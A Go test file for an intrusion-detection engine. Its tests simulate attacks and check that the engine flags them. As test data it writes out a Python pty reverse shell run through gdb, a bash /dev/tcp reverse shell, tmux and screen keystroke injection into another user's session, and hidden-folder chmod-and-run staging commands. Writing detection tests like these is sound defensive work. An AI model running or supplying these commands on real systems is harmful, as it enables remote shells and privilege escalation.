package detect

import (
	"strings"
	"testing"
	"time"
)

// TestCodeInArgvReverseShell: a program that runs code its command line
// gives it (gdb -ex 'python …') is that code's interpreter: when the code
// opens a socket and hands it a pty, its connect opens a channel, and the
// commands typed into it run inside (shop-specsheet).
func TestCodeInArgvReverseShell(t *testing.T) {
	e, s := webShellScene(t)
	code := `python import os,pty,socket;s=socket.create_connection(("127.0.0.1",4461));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")`
	e.Observe(s.exec(210, 201, 33, "www-data", "/tmp", "/usr/bin/gdb", "gdb", "-nx", "-batch", "-ex", code), s.tree)
	cn := s.connect(210, 201, 33, "/usr/bin/gdb", "127.0.0.1", 4461)
	e.Observe(cn, s.tree)
	if e.state.channels[cn.Proc] == nil {
		t.Fatal("gdb's embedded python pty.spawn on its socket: no channel")
	}
	// a gdb whose code opens no socket is a debugger
	e2, s2 := webShellScene(t)
	e2.Observe(s2.exec(210, 201, 33, "www-data", "/tmp", "/usr/bin/gdb", "gdb", "-batch", "-ex", "bt", "-p", "99"), s2.tree)
	cn2 := s2.connect(210, 201, 33, "/usr/bin/gdb", "127.0.0.1", 4461)
	e2.Observe(cn2, s2.tree)
	if e2.state.channels[cn2.Proc] != nil {
		t.Error("a gdb backtrace's connect: a channel, want none")
	}
}

// TestMadeRunnableInChannelRunByRoot: what the intruder types into a
// reverse shell's pty leaves no argv for its redirections, but the chmod
// that readies the file names it; root running it later is the
// escalation (shop-specsheet: root's monitoring agent ran every plugin of
// a folder the web account could write). The same chmod outside a channel
// (an application readying its own script) marks nothing.
func TestMadeRunnableInChannelRunByRoot(t *testing.T) {
	for _, c := range []struct {
		name    string
		channel bool
		mode    string
		want    bool
	}{
		{"chmod 755 in a reverse shell", true, "755", true},
		{"chmod +x in a reverse shell", true, "u+x", true},
		{"chmod 644 in a reverse shell", true, "644", false},
		{"chmod 755 by the application", false, "755", false},
	} {
		t.Run(c.name, func(t *testing.T) {
			e, s := webShellScene(t)
			parent := 201
			if c.channel {
				parent = reverseShell(e, s)
			}
			plugin := "/usr/local/lib/agent/plugins/zz"
			e.Observe(s.exec(220, parent, 33, "www-data", "/tmp", "/usr/bin/chmod", "chmod", c.mode, plugin), s.tree)
			s.t = s.t.Add(time.Minute)
			s.exec(300, 1, 0, "root", "/", "/usr/bin/socat", "socat", "TCP-LISTEN:6556,fork", "EXEC:/usr/local/bin/agent")
			s.exec(301, 300, 0, "root", "/", "/usr/bin/dash", "/bin/sh", "/usr/local/bin/agent")
			got := findingOf(e.Observe(s.exec(302, 301, 0, "root", "/", "/usr/bin/dash", "/bin/sh", plugin), s.tree), RulePlantedFileRun) != nil
			if got != c.want {
				t.Errorf("root running the plugin: planted-file-run %v, want %v", got, c.want)
			}
		})
	}
}

// TestTerminalSessionKeys: keystrokes sent into a terminal multiplexer's
// session from inside the intrusion's channel are another account's
// commands typed for the intruder (shop-specsheet: root's beacon task
// ran tmux -S /tmp/tmux-2002/default send-keys into the admin's open
// session); the same from an administrator's own login is hers.
func TestTerminalSessionKeys(t *testing.T) {
	for _, c := range []struct {
		name    string
		channel bool
		args    []string
		want    bool
	}{
		{"tmux send-keys in a channel", true, []string{"tmux", "-S", "/tmp/tmux-2002/default", "send-keys", "-t", "ops", "id", "Enter"}, true},
		{"screen stuff in a channel", true, []string{"screen", "-S", "ops", "-X", "stuff", "id\n"}, true},
		{"tmux list-sessions in a channel", true, []string{"tmux", "-S", "/tmp/tmux-2002/default", "ls"}, false},
		{"an administrator's own send-keys", false, []string{"tmux", "send-keys", "-t", "build", "make", "Enter"}, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			e, s := webShellScene(t)
			parent, uid, user := 201, uint32(33), "www-data"
			if c.channel {
				parent = reverseShell(e, s)
			} else {
				s.exec(300, 1, 0, "root", "/root", "/usr/sbin/sshd", "sshd: alice [priv]")
				s.exec(301, 300, 2002, "alice", "/home/alice", "/usr/bin/bash", "-bash")
				parent, uid, user = 301, 2002, "alice"
			}
			got := findingOf(e.Observe(s.exec(220, parent, uid, user, "/tmp", "/usr/bin/"+c.args[0], c.args...), s.tree), "terminal-session-keys")
			if (got != nil) != c.want {
				t.Fatalf("terminal-session-keys %v, want %v", got != nil, c.want)
			}
			if got != nil && got.Stage != StageLateralMovement {
				t.Errorf("stage %v, want lateral movement", got.Stage)
			}
		})
	}
}

// reverseShell opens a /dev/tcp reverse shell (pid 210) below the web
// shell of webShellScene and returns its pid: what runs below it runs in
// its channel.
func reverseShell(e *Engine, s *synth) int {
	e.Observe(s.exec(210, 201, 33, "www-data", "/tmp", "/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"), s.tree)
	e.Observe(s.connect(210, 201, 33, "/usr/bin/bash", "127.0.0.1", 4444), s.tree)
	return 210
}

// TestMadeRunnableByFlaggedCommand: a web shell's command that moves into
// its staging folder and makes what it uploaded there executable (`cd
// /var/tmp/.c && chmod 755 r.sh`) names the file no watch saw written;
// root running it later, under init, is the escalation (shop-compare: the
// root script a preloaded library forked inside sudo). The cd decides
// the folder: the same chmod with the web root's cwd names another file,
// and an application's unflagged command marks nothing.
func TestMadeRunnableByFlaggedCommand(t *testing.T) {
	for _, c := range []struct {
		name, cmd string
		want      bool
	}{
		{"cd then chmod, flagged", "cd /var/tmp/.c && chmod 755 r.sh && setsid sh w.sh < /dev/null > /dev/null 2>&1 &", true},
		{"chmod +x by its absolute name, flagged", "chmod +x /var/tmp/.c/r.sh; nohup /var/tmp/.c/w.sh >/dev/null 2>&1 &", true},
		{"chmod without the cd: another folder", "chmod 755 r.sh && setsid sh /var/tmp/.c/w.sh < /dev/null > /dev/null 2>&1 &", false},
		{"chmod 644", "cd /var/tmp/.c && chmod 644 r.sh && setsid sh w.sh < /dev/null > /dev/null 2>&1 &", false},
	} {
		t.Run(c.name, func(t *testing.T) {
			e, s := webShellScene(t)
			f := e.Observe(s.exec(210, 200, 33, "www-data", "/var/www/html", "/usr/bin/dash", "sh", "-c", c.cmd), s.tree)
			if len(f) == 0 || f[0].Severity < SeverityMedium {
				t.Fatalf("the web shell's command: %v, want a finding of medium or more", ids(f))
			}
			s.t = s.t.Add(20 * time.Second)
			got := findingOf(e.Observe(s.exec(300, 1, 0, "root", "/", "/usr/bin/dash", "sh", "/var/tmp/.c/r.sh"), s.tree), RulePlantedFileRun)
			if (got != nil) != c.want {
				t.Fatalf("root running r.sh under init: %v, want a planted-file-run %v", got, c.want)
			}
			if got != nil && (got.Stage != StageSuspiciousSpawn || !strings.Contains(got.Reason+droppedReason(e.state, got.Event), "made executable")) {
				t.Errorf("root running r.sh: stage %d, reason %q, want the escalation (4), the chmod said", got.Stage, got.Reason+droppedReason(e.state, got.Event))
			}
		})
	}
}
